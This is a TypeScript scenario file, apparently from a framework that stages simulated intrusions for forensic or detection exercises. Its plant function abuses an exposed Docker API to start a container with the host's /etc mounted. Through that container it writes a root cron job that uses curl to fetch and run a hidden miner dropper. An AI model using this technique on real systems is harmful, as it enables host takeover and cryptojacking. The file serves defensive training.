// The miner descends from cron; only the daemon's log tells of the container.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { dockerOnTheNet } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy(dockerOnTheNet)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/usr/local/games/.x/dnsd', fetch: 'curl', cron: false })
  const write = `echo "*/15 * * * * root ${line}" >/etc/cron.d/dns-sync`
  stage.mark('occurrence')
  const body = { Image: 'alpine', Cmd: ['/bin/sh', '-c', write], HostConfig: { Binds: ['/etc:/mnt'] } }
  const made = await stage.http('203.0.113.96', ':2375/v1.24/containers/create', JSON.stringify(body), {
    'Content-Type': 'application/json',
  })
  const { Id } = JSON.parse(made) as { Id: string }
  await stage.http('203.0.113.96', `:2375/v1.24/containers/${Id}/start`, '')
  await stage.inside('i=0; until [ -s /etc/cron.d/dns-sync ]; do i=$((i+1)); [ $i -lt 50 ]; sleep 0.1; done')
  await stage.byCron(line)
}
